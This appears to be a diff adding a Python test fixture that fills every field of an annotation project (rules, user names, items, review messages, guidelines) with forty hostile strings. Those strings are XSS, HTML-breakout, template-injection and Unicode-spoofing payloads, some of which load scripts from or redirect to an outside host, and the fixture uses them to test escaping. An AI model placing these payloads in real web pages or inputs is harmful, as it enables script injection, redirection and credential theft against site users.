@@ -1,0 +1,155 @@
+"""Forty texts that want to be more than text, and a team's project that holds them in every field."""
+
+import json
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any, Final
+
+PASSWORD: Final = "correct horse battery"  # noqa: S105 - of tests
+PAYLOADS: Final = (
+    "<script>window.pwned=1</script>",
+    "</script><script>window.pwned=2</script>",
+    "<ScRiPt src=//198.51.100.7/pwned.js></sCrIpT>",
+    "<script type=module>import('/static/pwned.js')</script>",
+    "<img src=x onerror=window.pwned=3>",
+    '"><img src=x onerror="window.pwned=4">',
+    "'><img src=x onerror='window.pwned=5'>",
+    '" onmouseover="window.pwned=6" x="',
+    "' autofocus onfocus='window.pwned=7",
+    "x onpointerenter=window.pwned=8 y=",
+    "` onclick=`window.pwned=9",
+    "<svg onload=window.pwned=10>",
+    "<svg><script>window.pwned=11</script></svg>",
+    "<svg><animate onbegin=window.pwned=12 attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=13>",
+    "</textarea><script>window.pwned=14</script>",
+    "</title><script>window.pwned=15</script>",
+    "</select></option><script>window.pwned=16</script>",
+    "</template><svg onload=window.pwned=17>",
+    "--><script>window.pwned=18</script><!--",
+    "]]><script>window.pwned=19</script><![CDATA[",
+    "<iframe srcdoc='<script>parent.pwned=20</script>'></iframe>",
+    "<iframe src=javascript:parent.pwned=21></iframe>",
+    "<object data=data:text/html,<script>pwned=22</script>></object>",
+    "<base href=//198.51.100.7/>",
+    "<meta http-equiv=refresh content=0;url=//198.51.100.7/>",
+    "<link rel=stylesheet href=//198.51.100.7/pwned.css>",
+    "<style>@import '//198.51.100.7/pwned.css';</style>",
+    "<form action=//198.51.100.7/><button autofocus>pwned</button></form>",
+    "<div hx-get=/work hx-trigger=load hx-on:load='window.pwned=23'>",
+    "<a href=javascript:window.pwned=24>pwned</a>",
+    "javascript:window.pwned=25",
+    "java\tscript:window.pwned=26//",
+    "data:text/html,<script>window.pwned=27</script>",
+    "[pwned](javascript:window.pwned=28) ![](x){onerror=window.pwned=28}",
+    "{{ 7919*7907 }}${7919*7907}#{7919*7907}<%= 7919*7907 %>",
+    "{% debug %}{% load pwned %}{{ person.user.password }}{# pwned",
+    "pwned\u202e\u2066gpj.exe\u2069\u200b\ufeff\u0085",
+    "pwned\x00<script\x00>window.pwned=29</script>\x0b\x1f",
+    "<b>" + "pwned " * 40 + "\U0001f4a5" * 20,
+)
+MADE_OF_TEMPLATES: Final = str(7919 * 7907)
+EVERY: Final = "\n".join(PAYLOADS)
+_NAME: Final = 150
+
+
+def shorts(length: int = _NAME) -> list[str]:
+    """The texts, each as long as a short field holds."""
+    return [one[:length] for one in PAYLOADS]
+
+
+def protocol_source() -> str:
+    """The rules of a review whose every word is one of them."""
+
+    def quoted(text: str) -> str:
+        return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f").replace("\x85", "\\u0085")
+
+    checks = "\n".join(
+        f'[[stages.checks]]\nid = "c{n}"\nwords = {quoted(one)}\nhelp = {quoted(one)}\n'
+        f'example = {quoted(one)}\nneeded = false\nfield = "question"'
+        for n, one in enumerate(PAYLOADS)
+    )
+    return (
+        f"title = {quoted(EVERY[:300])}\nsource = {quoted(EVERY)}\ndeparts = {quoted(EVERY)}\nreturns = 1\n"
+        f'[[stages]]\nrole = "reviewer"\nedits = ["validator_edit"]\n{checks}\n'
+        f'[[stages.scores]]\nid = "s"\nwords = {quoted(EVERY)}\n'
+    )
+
+
+def words(name: str, text: str) -> dict[str, object]:
+    """The content of an item that says a text in each of its fields."""
+    return {
+        "item_id": name,
+        "media": [{"path": text.replace("\x00", "")}],
+        "question": text,
+        "choices": [text, f"{text} "],
+        "answer": text,
+        "rationale": text,
+        "evidence": [{"kind": "referred", "start_s": 0.0, "end_s": 1.0, "note": text}],
+        "tags": {text: text},
+        "source": text,
+    }
+
+
+def fill(folder: Path, *, now: datetime) -> Any:
+    """A project that holds them: its title and rules, names of people and items, what people wrote.
+
+    Olga leads it, Ann writes, Rob looks (each shown under a text of the list). Rob has one item claimed.
+    """
+    from vidence.studio import members, projects, rulebooks, times, training
+    from vidence.studio.accounts import add_user
+    from vidence.studio.records.items import ItemRow, MediumRow
+    from vidence.studio.rules.spans import Span
+    from vidence.studio.workflow import Act, Done, act
+
+    rules = folder / "hostile.toml"
+    rules.write_text(protocol_source())
+    project = projects.add_project("films", str(rules), title=EVERY[:300], media_root=str(folder))
+    people = {}
+    for n, (name, roles) in enumerate(
+        (("Olga", ("operator",)), ("Ann", ("author",)), ("Rob", ("reviewer",)), ("Rex", ("researcher",)))
+    ):
+        people[name] = add_user(name, PASSWORD, roles=roles, project="films", shown=shorts()[n * 4])
+        terms = members.Terms(roles=roles, domains=(shorts()[n], "law"))
+        members.set_terms(people[name], project, terms, by="p001")
+    for n, text in enumerate(shorts()):
+        add_user(f"{n}{text}", PASSWORD, roles=("author",), project="films")
+    training.accept(people["Ann"], training.add_guideline(project, EVERY, by="p001"))
+    training.accept(people["Rob"], training.add_guideline(project, f"{EVERY}\n{EVERY}", by="p001"))
+    training.accept(people["Ann"], training.newest(project))
+    for text in shorts():
+        trial = training.Trial(role="reviewer", words=text, options=(text, "no"), right="no", why=text)
+        training.add_trial(project, trial)
+    rulebooks.keep(project, f"{protocol_source()}# {shorts()[0]}\n", by="p001")
+    for n, text in enumerate(shorts()):
+        MediumRow.objects.create(
+            project=project, path=f"{n}{text}.mp4", sha256="0" * 64, kind="video", source_id=text,
+            state="usable", url=text, title=text,
+        )  # fmt: skip
+    names = [f"{n:02} {one}" for n, one in enumerate(shorts())]
+    projects.add_items(project, names, kinds=dict.fromkeys(names, "mcq"))
+    ann, rob = people["Ann"], people["Rob"]
+    for n, item in enumerate(ItemRow.objects.filter(project=project).order_by("item_id")):
+        item.author, item.strata = ann, {"domain": "law"}
+        item.save()
+        if n == len(names) - 1:
+            break  # one stays to be written
+        text = EVERY if n == 0 else PAYLOADS[n]
+        deeds = [Act(kind="submit", role="author", by=ann.pseudonym, content=words(item.item_id, text))]
+        deeds.append(Act(kind="say", role="author", by=ann.pseudonym, message=text))
+        deeds.append(Act(kind="claim", role="reviewer", by=rob.pseudonym))
+        if n > 1:
+            checks = {"c0": "no"}
+            said = Act(kind="return", role="reviewer", by=rob.pseudonym, message=text, checks=checks)
+            deeds.append(
+                Act(kind=said.kind, role=said.role, by=said.by, message=text, checks=checks, scores={"s": 3})
+            )
+        for deed in deeds:
+            done = act(item, deed)
+            assert isinstance(done, Done), (text, deed.kind, done)
+    for text in PAYLOADS[:5]:
+        begin = now - timedelta(days=1)
+        begin = begin.replace(hour=3, minute=0, second=0, microsecond=0, tzinfo=UTC)
+        told = Span(kind="active", start=begin, end=begin + timedelta(minutes=5))
+        times.file_correction(ann, project, told, reason=f"{text} {EVERY}")
+    return project
